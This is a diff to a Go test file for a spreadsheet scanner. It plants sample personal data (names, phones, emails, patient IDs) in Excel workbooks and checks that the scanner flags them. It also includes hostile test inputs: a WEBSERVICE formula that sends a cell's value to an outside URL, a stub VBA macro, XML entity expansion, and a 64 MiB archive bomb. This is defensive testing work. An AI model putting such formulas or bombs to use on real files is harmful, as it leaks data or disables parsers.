@@ -127,10 +127,12 @@ func TestPlanted(t *testing.T) {
 		plant func(f *excelize.File)
 		rule  string
 	}{
-		"name column":     {func(f *excelize.File) { column(t, f, "Sheet1", "氏名", func(int) any { return "山田太郎" }) }, "column-person-name"},
-		"phones":          {func(f *excelize.File) { column(t, f, "Sheet1", "列", phone) }, "phone"},
-		"birth as date":   {func(f *excelize.File) { column(t, f, "Sheet1", "生年月日", birth) }, "birth-date"},
-		"birth as number": {func(f *excelize.File) { column(t, f, "Sheet1", "生年月日", func(i int) any { return 20_000 + i*37 }) }, "birth-date"},
+		"name column":   {func(f *excelize.File) { column(t, f, "Sheet1", "氏名", func(int) any { return "山田太郎" }) }, "column-person-name"},
+		"phones":        {func(f *excelize.File) { column(t, f, "Sheet1", "列", phone) }, "phone"},
+		"birth as date": {func(f *excelize.File) { column(t, f, "Sheet1", "生年月日", birth) }, "birth-date"},
+		"birth as number": {func(f *excelize.File) {
+			column(t, f, "Sheet1", "生年月日", func(i int) any { return 20_000 + i*37 })
+		}, "birth-date"},
 		"my number": {func(f *excelize.File) {
 			column(t, f, "Sheet1", "個人番号", func(i int) any { return 123_456_789_018 })
 		}, "column-national-id"},
@@ -146,14 +148,22 @@ func TestPlanted(t *testing.T) {
 		"comment's author": {func(f *excelize.File) {
 			must(t, f.AddComment("Sheet1", excelize.Comment{Cell: "A3", Author: "佐藤花子", Text: "確認"}))
 		}, "column-person-name"},
-		"author":        {func(f *excelize.File) { must(t, f.SetDocProps(&excelize.DocProperties{Creator: "佐藤花子"})) }, "column-person-name"},
-		"last editor":   {func(f *excelize.File) { must(t, f.SetDocProps(&excelize.DocProperties{LastModifiedBy: "Hanako Sato"})) }, "column-person-name"},
-		"description":   {func(f *excelize.File) { must(t, f.SetDocProps(&excelize.DocProperties{Description: "contact taro@hospital.jp"})) }, "email"},
-		"header":        {func(f *excelize.File) { must(t, f.SetHeaderFooter("Sheet1", &excelize.HeaderFooterOptions{OddHeader: "&L 03-1234-5678"})) }, "phone"},
-		"defined name":  {func(f *excelize.File) { must(t, f.SetDefinedName(&excelize.DefinedName{Name: "x", RefersTo: `"taro@hospital.jp"`})) }, "email"},
-		"formula":       {func(f *excelize.File) { must(t, f.SetCellFormula("Sheet1", "H2", `"taro@hospital.jp"`)) }, "email"},
-		"link":          {func(f *excelize.File) { must(t, f.SetCellHyperLink("Sheet1", "A2", "mailto:taro@hospital.jp", "External")) }, "email"},
-		"text box":      {func(f *excelize.File) { must(t, f.AddShape("Sheet1", shape("電話 03-1234-5678"))) }, "phone"},
+		"author":      {func(f *excelize.File) { must(t, f.SetDocProps(&excelize.DocProperties{Creator: "佐藤花子"})) }, "column-person-name"},
+		"last editor": {func(f *excelize.File) { must(t, f.SetDocProps(&excelize.DocProperties{LastModifiedBy: "Hanako Sato"})) }, "column-person-name"},
+		"description": {func(f *excelize.File) {
+			must(t, f.SetDocProps(&excelize.DocProperties{Description: "contact taro@hospital.jp"}))
+		}, "email"},
+		"header": {func(f *excelize.File) {
+			must(t, f.SetHeaderFooter("Sheet1", &excelize.HeaderFooterOptions{OddHeader: "&L 03-1234-5678"}))
+		}, "phone"},
+		"defined name": {func(f *excelize.File) {
+			must(t, f.SetDefinedName(&excelize.DefinedName{Name: "x", RefersTo: `"taro@hospital.jp"`}))
+		}, "email"},
+		"formula": {func(f *excelize.File) { must(t, f.SetCellFormula("Sheet1", "H2", `"taro@hospital.jp"`)) }, "email"},
+		"link": {func(f *excelize.File) {
+			must(t, f.SetCellHyperLink("Sheet1", "A2", "mailto:taro@hospital.jp", "External"))
+		}, "email"},
+		"text box": {func(f *excelize.File) { must(t, f.AddShape("Sheet1", shape("電話 03-1234-5678"))) }, "phone"},
 		"list of values": {func(f *excelize.File) {
 			v := excelize.NewDataValidation(true)
 			v.Sqref = "A1:A9"
@@ -168,7 +178,9 @@ func TestPlanted(t *testing.T) {
 		}, "column-person-name"},
 		"web formula": {func(f *excelize.File) { must(t, f.SetCellFormula("Sheet1", "H2", `WEBSERVICE("http://x/"&A2)`)) }, "executable-content"},
 		"other book":  {func(f *excelize.File) { must(t, f.SetCellFormula("Sheet1", "H2", `[1]Sheet1!A1`)) }, "external-link"},
-		"macros":      {func(f *excelize.File) { must(t, f.AddVBAProject([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"+strings.Repeat("\x00", 600)))) }, "executable-content"},
+		"macros": {func(f *excelize.File) {
+			must(t, f.AddVBAProject([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"+strings.Repeat("\x00", 600))))
+		}, "executable-content"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			f := book(t)
@@ -228,15 +240,15 @@ func TestParts(t *testing.T) {
 		"people":           {"xl/persons/person.xml", `<personList><person displayName="佐藤花子" userId="x"/></personList>`, "column-person-name"},
 		"pivot copy": {"xl/pivotCache/pivotCacheDefinition1.xml",
 			`<pivotCacheDefinition refreshedBy="R"><cacheFields><cacheField name="氏名"><sharedItems><s v="山田太郎"/></sharedItems></cacheField></cacheFields></pivotCacheDefinition>`, "column-person-name"},
-		"who refreshed":    {"xl/pivotCache/pivotCacheDefinition1.xml", `<pivotCacheDefinition refreshedBy="佐藤花子"/>`, "column-person-name"},
-		"custom property":  {"docProps/custom.xml", `<Properties><property name="patient id"><vt:lpwstr>0012345</vt:lpwstr></property></Properties>`, "column-patient-id"},
-		"furigana":         {"xl/sharedStrings.xml", `<sst><si><t>x</t><rPh><t>090-1234-5678</t></rPh></si></sst>`, "phone"},
-		"broken sheet":     {"xl/worksheets/sheet1.xml", `<worksheet><sheetData><row r="1"><c`, "damaged"},
-		"deep":             {"xl/worksheets/sheet1.xml", deep, "damaged"},
-		"no such text":     {"xl/sharedStrings.xml", `<sst/>`, "damaged"},
-		"entities":         {"xl/worksheets/sheet1.xml", `<!DOCTYPE x [<!ENTITY a "b"><!ENTITY c "&a;&a;">]><worksheet><sheetData><row><c t="str"><v>&c;</v></c></row></sheetData></worksheet>`, "damaged"},
-		"long text":        {"xl/worksheets/sheet1.xml", `<worksheet><sheetData><row><c t="str"><v>` + strings.Repeat("x", 3<<20) + `</v></c></row></sheetData></worksheet>`, "damaged"},
-		"bomb":             {"xl/worksheets/sheet1.xml", `<worksheet>` + strings.Repeat(" ", 64<<20) + `</worksheet>`, "archive-bomb"},
+		"who refreshed":   {"xl/pivotCache/pivotCacheDefinition1.xml", `<pivotCacheDefinition refreshedBy="佐藤花子"/>`, "column-person-name"},
+		"custom property": {"docProps/custom.xml", `<Properties><property name="patient id"><vt:lpwstr>0012345</vt:lpwstr></property></Properties>`, "column-patient-id"},
+		"furigana":        {"xl/sharedStrings.xml", `<sst><si><t>x</t><rPh><t>090-1234-5678</t></rPh></si></sst>`, "phone"},
+		"broken sheet":    {"xl/worksheets/sheet1.xml", `<worksheet><sheetData><row r="1"><c`, "damaged"},
+		"deep":            {"xl/worksheets/sheet1.xml", deep, "damaged"},
+		"no such text":    {"xl/sharedStrings.xml", `<sst/>`, "damaged"},
+		"entities":        {"xl/worksheets/sheet1.xml", `<!DOCTYPE x [<!ENTITY a "b"><!ENTITY c "&a;&a;">]><worksheet><sheetData><row><c t="str"><v>&c;</v></c></row></sheetData></worksheet>`, "damaged"},
+		"long text":       {"xl/worksheets/sheet1.xml", `<worksheet><sheetData><row><c t="str"><v>` + strings.Repeat("x", 3<<20) + `</v></c></row></sheetData></worksheet>`, "damaged"},
+		"bomb":            {"xl/worksheets/sheet1.xml", `<worksheet>` + strings.Repeat(" ", 64<<20) + `</worksheet>`, "archive-bomb"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
